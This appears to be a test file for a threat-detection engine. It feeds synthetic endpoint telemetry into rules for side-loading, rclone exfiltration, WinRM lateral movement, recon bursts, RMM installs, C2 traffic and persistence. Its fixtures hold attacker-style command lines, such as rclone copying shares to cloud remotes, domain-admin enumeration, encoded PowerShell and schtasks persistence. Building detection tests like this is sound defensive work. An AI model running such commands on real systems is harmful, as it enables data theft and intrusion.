// Rules generalise beyond the seed's literals: hand-made rows with other names, paths, hosts and
// flags than A–K's, and the near misses each rule must leave alone.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Engine } from '../../src/engine.js';
import { detect } from '../../src/detect/detect.js';
import { loadRules } from '../../src/detect/rules.js';

const pack = loadRules();
let engine: Engine;

beforeEach(async () => {
  engine = await Engine.open();
});
afterEach(() => engine.close());

/** The ReportIds of each alert a rule raises over the rows inserted (sorted). */
async function fire(ruleId: string): Promise<string[][]> {
  const rule = pack.find(r => r.id === ruleId)!;
  const res = await detect(engine, [rule], { save: false, now: new Date('2026-03-11T00:00:00Z') });
  expect(res.failed).toBe(0);
  return res.alerts.map(a => a.sourceEvents.map(e => `${e.table.replace(/^Device|Events$/g, '')}:${e.reportId}`)).sort();
}

const T = (m: number) => new Date(Date.parse('2026-03-09T10:00:00Z') + m * 60_000).toISOString();

describe('side-loading: any signed host, any user-writable path', () => {
  it('fires on a system DLL name or a freshly dropped DLL beside a vendor binary; not on System32, unknown DLLs or trusted-signed ones', async () => {
    await engine.store.insertObjects('DeviceProcessEvents', [
      { ReportId: 1, Timestamp: T(0), DeviceName: 'ws-1', FileName: 'ZoomUpdater.exe', FolderPath: 'C:\\Users\\ann\\AppData\\Local\\Temp\\z\\ZoomUpdater.exe', SHA1: 'aa', ProcessVersionInfoCompanyName: 'Zoom Video Communications, Inc.' },
      { ReportId: 2, Timestamp: T(0), DeviceName: 'ws-2', FileName: 'helper.exe', FolderPath: 'C:\\Tools\\helper.exe', SHA1: 'bb' },
    ]);
    const load = (ReportId: number, m: number, DeviceName: string, FolderPath: string, InitiatingProcessSHA1: string, SHA1 = `dll${ReportId}`) => ({
      ReportId, Timestamp: T(m), DeviceName, ActionType: 'ImageLoaded', FileName: FolderPath.split('\\').pop(), FolderPath, SHA1, InitiatingProcessSHA1,
      InitiatingProcessFileName: 'ZoomUpdater.exe', InitiatingProcessFolderPath: 'C:\\Users\\ann\\AppData\\Local\\Temp\\z\\ZoomUpdater.exe',
    });
    await engine.store.insertObjects('DeviceImageLoadEvents', [
      load(10, 1, 'ws-1', 'C:\\Users\\ann\\AppData\\Local\\Temp\\z\\version.dll', 'aa'),           // known side-loading target name
      load(11, 1, 'ws-1', 'C:\\Users\\ann\\AppData\\Local\\Temp\\z\\zoomhelper.dll', 'aa'),        // unknown name, not dropped
      load(12, 1, 'ws-1', 'C:\\Users\\Public\\cache\\update.dll', 'aa'),                            // unknown name, dropped by PowerShell
      load(13, 1, 'ws-1', 'C:\\Windows\\System32\\version.dll', 'aa'),                              // the real one
      load(14, 1, 'ws-2', 'C:\\ProgramData\\x\\version.dll', 'bb'),                                 // host without vendor information
      load(15, 1, 'ws-1', 'C:\\ProgramData\\Vendor\\dbghelp.dll', 'aa', 'signed-dll'),              // DLL with a trusted signature
      load(16, 1, 'ws-1', 'C:\\ProgramData\\Vendor\\textinput.dll', 'aa'),                          // name seen in System32 elsewhere
      load(17, 2, 'ws-3', 'C:\\Windows\\System32\\textinput.dll', 'cc'),
    ]);
    await engine.store.insertObjects('DeviceFileEvents', [
      { ReportId: 20, Timestamp: T(0), DeviceName: 'ws-1', ActionType: 'FileCreated', FileName: 'update.dll', FolderPath: 'C:\\Users\\Public\\cache\\update.dll', InitiatingProcessFileName: 'powershell.exe' },
    ]);
    await engine.store.insertObjects('DeviceFileCertificateInfo', [{ ReportId: 30, Timestamp: T(0), DeviceName: 'ws-1', SHA1: 'signed-dll', IsSigned: true, IsTrusted: true, Signer: 'Microsoft Windows' }]);
    expect(await fire('sideload-signed-host-user-writable-dll')).toEqual([['File:20', 'ImageLoad:12'], ['ImageLoad:10'], ['ImageLoad:16']]);
  });
});

describe('rclone by name, original name, product or behaviour', () => {
  it('fires on renamed, relocated and behaviour-only transfers; not on an installed scheduled sync', async () => {
    const p = (ReportId: number, FileName: string, FolderPath: string, ProcessCommandLine: string, extra: Record<string, unknown> = {}) => ({
      ReportId, Timestamp: T(ReportId), DeviceName: 'srv-1', FileName, FolderPath, ProcessCommandLine, ...extra,
    });
    await engine.store.insertObjects('DeviceProcessEvents', [
      // Renamed: the version information still says rclone.
      p(1, 'winupd.exe', 'C:\\Program Files\\Upd\\winupd.exe', 'winupd.exe sync D:\\Data s3:bucket/x --transfers 4', { ProcessVersionInfoOriginalFileName: 'rclone.exe', ProcessVersionInfoProductName: 'Rclone' }),
      // No version information at all: behaviour (subcommand, remote: target, rclone flags) from a user-writable folder.
      p(2, 'sync.exe', 'C:\\Users\\Public\\sync.exe', 'sync.exe copy \\\\fs\\hr dropbox:out --checkers 8 --transfers 8 --no-check-certificate'),
      // rclone from a shell under a WinRM session.
      p(3, 'rclone.exe', 'C:\\Program Files\\rclone\\rclone.exe', 'rclone.exe move E:\\Finance gdrive:f --bwlimit 10M --fast-list', { InitiatingProcessFileName: 'cmd.exe', InitiatingProcessParentFileName: 'wsmprovhost.exe' }),
      // Document-picking filters.
      p(4, 'rclone.exe', 'C:\\Program Files\\rclone\\rclone.exe', 'rclone.exe copy D:\\Shares mega:a --include *.docx --include *.xlsx', { InitiatingProcessFileName: 'svchost.exe' }),
      // The installed nightly job.
      p(5, 'rclone.exe', 'C:\\Program Files\\rclone\\rclone.exe', 'rclone.exe sync D:\\Shares b2:backup --transfers 4 --exclude "*.tmp" --log-file x.log', { InitiatingProcessFileName: 'svchost.exe' }),
      // Not rclone: robocopy with a similar shape.
      p(6, 'robocopy.exe', 'C:\\Windows\\System32\\robocopy.exe', 'robocopy D:\\Shares \\\\nas\\copy /MIR'),
    ]);
    expect(await fire('rclone-exfiltration')).toEqual([['Process:1'], ['Process:2'], ['Process:3'], ['Process:4']]);
  });
});

describe('registry: any large encoded value under the user Classes\\Local Settings hive', () => {
  it('fires on large base64 / hex / binary values there; not elsewhere, not short values', async () => {
    const b64 = 'QUJD'.repeat(400);
    const r = (ReportId: number, RegistryKey: string, RegistryValueData: string, RegistryValueType = 'String') => ({
      ReportId, Timestamp: T(ReportId * 120), DeviceName: 'ws-1', ActionType: 'RegistryValueSet', RegistryKey, RegistryValueName: `V${ReportId}`, RegistryValueType, RegistryValueData, InitiatingProcessId: ReportId,
    });
    await engine.store.insertObjects('DeviceRegistryEvents', [
      r(1, 'HKEY_USERS\\S-1-5-21-1-2-3-1001_Classes\\Local Settings\\Software\\Vendor', b64),
      r(2, 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Classes\\Local Settings\\Cfg', 'ab12'.repeat(300)),
      r(3, 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Classes\\Local Settings\\Software\\Vendor', b64),
      r(4, 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Classes\\Local Settings\\Software\\Microsoft\\Windows\\Shell\\MuiCache', 'Notepad'),
      r(5, 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', b64),
      r(6, 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Classes\\Local Settings\\Cfg', 'Hello, world. '.repeat(100)),
    ]);
    expect(await fire('registry-encoded-blob-classes-local-settings')).toEqual([['Registry:1'], ['Registry:2']]);
  });
});

describe('WinRM from a user-context remote session', () => {
  it('fires for a non-remoting process, or PowerShell after remote assistance; not for an admin PowerShell', async () => {
    const conn = (ReportId: number, m: number, DeviceName: string, InitiatingProcessFileName: string, RemoteIP: string) => ({
      ReportId, Timestamp: T(m), DeviceName, ActionType: 'ConnectionSuccess', RemoteIP, RemotePort: 5985, RemoteIPType: 'Private', LocalIP: `10.0.0.${ReportId}`,
      LocalPort: 50000 + ReportId, InitiatingProcessFileName, InitiatingProcessId: ReportId,
    });
    await engine.store.insertObjects('DeviceNetworkEvents', [
      conn(1, 10, 'ws-1', 'updater.exe', '10.0.9.1'),
      conn(2, 30, 'ws-2', 'powershell.exe', '10.0.9.1'),
      conn(3, 30, 'adm-1', 'powershell.exe', '10.0.9.1'),
      // The DC accepts Kerberos, and the WinRM connection from ws-2.
      { ReportId: 10, Timestamp: T(0), DeviceName: 'dc-1', ActionType: 'InboundConnectionAccepted', LocalIP: '10.0.9.1', LocalPort: 88, RemoteIP: '10.0.0.50', RemotePort: 50123 },
      { ReportId: 11, Timestamp: T(30), DeviceName: 'dc-1', ActionType: 'InboundConnectionAccepted', LocalIP: '10.0.9.1', LocalPort: 5985, RemoteIP: '10.0.0.2', RemotePort: 50002 },
    ]);
    await engine.store.insertObjects('DeviceProcessEvents', [
      { ReportId: 20, Timestamp: T(0), DeviceName: 'ws-2', FileName: 'RustDesk.exe', FolderPath: 'C:\\Users\\bo\\Downloads\\rustdesk.exe' },
    ]);
    expect(await fire('winrm-lateral-from-user-session')).toEqual([['Network:1'], ['Process:20', 'Network:2']]);
    const rule = pack.find(r => r.id === 'winrm-lateral-from-user-session')!;
    const res = await engine.query(rule.query, { now: new Date('2026-03-11T00:00:00Z') });
    const rows = res.rows.map(r => Object.fromEntries(res.columns.map((c, i) => [c.name, r[i]])));
    expect(rows.find(r => r.DeviceName === 'ws-2')).toMatchObject({ TargetDevices: ['dc-1'], DomainControllers: ['dc-1'], AfterRemoteSession: 1 });
  });
});

describe('remote-access tools by product, recon by kind', () => {
  it('a recon burst after any remote-access product, counted by kinds of command', async () => {
    await engine.store.insertObjects('DeviceProcessEvents', [
      { ReportId: 1, Timestamp: T(0), DeviceName: 'ws-1', FileName: 'sc-client.exe', ProcessVersionInfoProductName: 'ScreenConnect Client' },
      { ReportId: 2, Timestamp: T(1), DeviceName: 'ws-1', FileName: 'powershell.exe', ProcessCommandLine: 'powershell -c "Get-ADDomain"' },
      { ReportId: 3, Timestamp: T(2), DeviceName: 'ws-1', FileName: 'cmd.exe', ProcessCommandLine: 'cmd /c tasklist /v' },
      { ReportId: 4, Timestamp: T(3), DeviceName: 'ws-1', FileName: 'cmd.exe', ProcessCommandLine: 'cmd /c net group "domain admins" /domain' },
      // The same three kinds on a device without a remote session, and three commands of one kind after one.
      { ReportId: 5, Timestamp: T(0), DeviceName: 'ws-2', FileName: 'cmd.exe', ProcessCommandLine: 'cmd /c tasklist' },
      { ReportId: 6, Timestamp: T(1), DeviceName: 'ws-2', FileName: 'cmd.exe', ProcessCommandLine: 'cmd /c net user' },
      { ReportId: 7, Timestamp: T(2), DeviceName: 'ws-2', FileName: 'cmd.exe', ProcessCommandLine: 'cmd /c get-aduser x' },
      { ReportId: 8, Timestamp: T(0), DeviceName: 'ws-3', FileName: 'QuickAssist.exe' },
      { ReportId: 9, Timestamp: T(1), DeviceName: 'ws-3', FileName: 'cmd.exe', ProcessCommandLine: 'cmd /c ipconfig /all' },
      { ReportId: 10, Timestamp: T(2), DeviceName: 'ws-3', FileName: 'cmd.exe', ProcessCommandLine: 'cmd /c ipconfig /flushdns' },
      { ReportId: 11, Timestamp: T(3), DeviceName: 'ws-3', FileName: 'cmd.exe', ProcessCommandLine: 'cmd /c ipconfig /registerdns' },
    ]);
    expect(await fire('recon-burst-after-remote-assistance')).toEqual([['Process:1', 'Process:2', 'Process:3', 'Process:4']]);
  });

  it('an internal technician on another device makes the session internal', async () => {
    await engine.store.insertObjects('DeviceProcessEvents', [
      { ReportId: 1, Timestamp: T(0), DeviceName: 'hd-1', FileName: 'QuickAssist.exe', AccountSid: 'S-tech' },
      { ReportId: 2, Timestamp: T(2), DeviceName: 'ws-1', FileName: 'QuickAssist.exe', AccountSid: 'S-ann' },
      { ReportId: 3, Timestamp: T(3), DeviceName: 'ws-1', FileName: 'cmd.exe', InitiatingProcessFileName: 'explorer.exe', AccountSid: 'S-ann' },
      { ReportId: 4, Timestamp: T(60), DeviceName: 'ws-2', FileName: 'AnyDesk.exe', AccountSid: 'S-bo' },
      { ReportId: 5, Timestamp: T(60.5), DeviceName: 'ws-2', FileName: 'consent.exe', AccountSid: 'S-1-5-18' },
      { ReportId: 6, Timestamp: T(61), DeviceName: 'ws-2', FileName: 'pwsh.exe', InitiatingProcessFileName: 'explorer.exe', AccountSid: 'S-bo' },
    ]);
    expect(await fire('remote-assistance-elevation-shell')).toEqual([['Process:4', 'Process:5', 'Process:6']]);
  });
});

describe('RMM agents by enrolment key or product, on several hosts', () => {
  it('groups installs of one agent key across hosts within an hour; ignores the software distribution agent', async () => {
    const msi = (ReportId: number, m: number, DeviceName: string, cmd: string, parent: string) => ({
      ReportId, Timestamp: T(m), DeviceName, FileName: 'msiexec.exe', ProcessCommandLine: cmd, InitiatingProcessFileName: parent,
    });
    await engine.store.insertObjects('DeviceProcessEvents', [
      msi(1, 0, 'ws-1', 'msiexec /i C:\\Windows\\Temp\\a.msi SITE_TOKEN=abc123 /quiet', 'powershell.exe'),
      msi(2, 20, 'srv-1', 'msiexec.exe /i C:\\Windows\\Temp\\b.msi SITE_TOKEN=abc123 /qn', 'wsmprovhost.exe'),
      msi(3, 50, 'srv-2', 'msiexec.exe /i C:\\Windows\\Temp\\c.msi SITE_TOKEN=abc123 /qn', 'wsmprovhost.exe'),
      msi(4, 10, 'ws-5', 'msiexec /i "C:\\Windows\\ccmcache\\1\\AteraAgent.msi" /qn', 'svchost.exe'),
      msi(5, 10, 'ws-6', 'msiexec /i "C:\\Windows\\ccmcache\\1\\AteraAgent.msi" /qn', 'svchost.exe'),
      msi(6, 200, 'ws-7', 'msiexec /i \\\\fs\\sw\\vpn.msi /qn', 'cmd.exe'),
    ]);
    expect(await fire('rmm-agent-msiexec-multi-host')).toEqual([['Process:1', 'Process:2', 'Process:3']]);
    expect(await fire('rmm-agent-msiexec-from-shell-or-remote-session')).toEqual([['Process:1'], ['Process:2'], ['Process:3']]);
  });
});

describe('C2: API gateways and high-risk TLDs from unusual processes, then AD protocols', () => {
  it('fires for a process in a user-writable folder or a script host; not for installed apps or browsers', async () => {
    const n = (ReportId: number, m: number, proc: string, folder: string, RemoteUrl: string, RemotePort = 443, RemoteIP = '203.0.113.9') => ({
      ReportId, Timestamp: T(m), DeviceName: 'ws-1', ActionType: 'ConnectionSuccess', RemoteUrl, RemotePort, RemoteIP, RemoteIPType: RemotePort === 443 ? 'Public' : 'Private',
      InitiatingProcessFileName: proc, InitiatingProcessFolderPath: `${folder}\\${proc}`, InitiatingProcessId: ReportId < 10 ? ReportId : ReportId - 10, InitiatingProcessCreationTime: T(0),
    });
    await engine.store.insertObjects('DeviceNetworkEvents', [
      n(1, 1, 'agent.exe', 'C:\\ProgramData\\Sync', 'abc123.lambda-url.eu-west-1.on.aws'),
      n(2, 1, 'wscript.exe', 'C:\\Windows\\System32', 'cdn-files.cyou'),
      n(3, 1, 'node.exe', 'C:\\Program Files\\nodejs', 'q1w2e3.execute-api.us-east-1.amazonaws.com'),
      n(4, 1, 'chrome.exe', 'C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\Application', 'evil.top'),
      n(11, 5, 'agent.exe', 'C:\\ProgramData\\Sync', '', 389, '10.0.0.10'),
      n(12, 50, 'agent.exe', 'C:\\ProgramData\\Sync', '', 445, '10.0.0.11'),
    ]);
    expect(await fire('c2-api-gateway-or-risky-tld-non-browser')).toEqual([['Network:1'], ['Network:2']]);
    expect(await fire('c2-then-internal-ad-protocols')).toEqual([['Network:1', 'Network:11']]);
  });
});

describe('rules the simulator does not exercise', () => {
  it('Teams URL click-through: Safe Links clicks through a warning in Teams only', async () => {
    await engine.store.insertObjects('UrlClickEvents', [
      { ReportId: 'c1', Timestamp: T(0), Workload: 'Teams', ActionType: 'ClickedThrough', IsClickedThrough: true, AccountUpn: 'ann@contoso.com', Url: 'https://mfa-reset.click/x' },
      { ReportId: 'c2', Timestamp: T(1), Workload: 'Teams', ActionType: 'ClickAllowed', IsClickedThrough: false, ThreatTypes: 'Phish', AccountUpn: 'bo@contoso.com', Url: 'https://x.top/' },
      { ReportId: 'c3', Timestamp: T(2), Workload: 'Teams', ActionType: 'ClickAllowed', IsClickedThrough: false, AccountUpn: 'cy@contoso.com', Url: 'https://contoso.sharepoint.com/' },
      { ReportId: 'c4', Timestamp: T(3), Workload: 'Email', ActionType: 'ClickedThrough', IsClickedThrough: true, AccountUpn: 'di@contoso.com', Url: 'https://x.top/' },
    ]);
    expect(await fire('teams-url-click-through')).toEqual([['UrlClick:c1'], ['UrlClick:c2']]);
  });

  it('an Office application starting a shell or script host', async () => {
    await engine.store.insertObjects('DeviceProcessEvents', [
      { ReportId: 1, Timestamp: T(0), DeviceName: 'ws-1', FileName: 'powershell.exe', InitiatingProcessFileName: 'WINWORD.EXE', ProcessCommandLine: 'powershell -enc AAAA' },
      { ReportId: 2, Timestamp: T(1), DeviceName: 'ws-1', FileName: 'splwow64.exe', InitiatingProcessFileName: 'WINWORD.EXE' },
      { ReportId: 3, Timestamp: T(2), DeviceName: 'ws-1', FileName: 'cmd.exe', InitiatingProcessFileName: 'explorer.exe' },
    ]);
    expect(await fire('office-app-suspicious-commands')).toEqual([['Process:1']]);
  });

  it('a scheduled task running a binary from a user-writable folder', async () => {
    await engine.store.insertObjects('DeviceProcessEvents', [
      { ReportId: 1, Timestamp: T(0), DeviceName: 'ws-1', FileName: 'schtasks.exe', ProcessCommandLine: 'schtasks /create /tn "Updater" /tr "C:\\Users\\Public\\upd\\svc.exe" /sc onlogon' },
      { ReportId: 2, Timestamp: T(1), DeviceName: 'ws-1', FileName: 'schtasks.exe', ProcessCommandLine: 'schtasks /create /tn "Backup" /tr "C:\\Program Files\\Backup\\run.exe" /sc daily' },
      { ReportId: 3, Timestamp: T(2), DeviceName: 'ws-1', FileName: 'schtasks.exe', ProcessCommandLine: 'schtasks /query /tn "C:\\ProgramData\\x.exe"' },
    ]);
    expect(await fire('scheduled-task-user-writable-binary')).toEqual([['Process:1']]);
  });
});
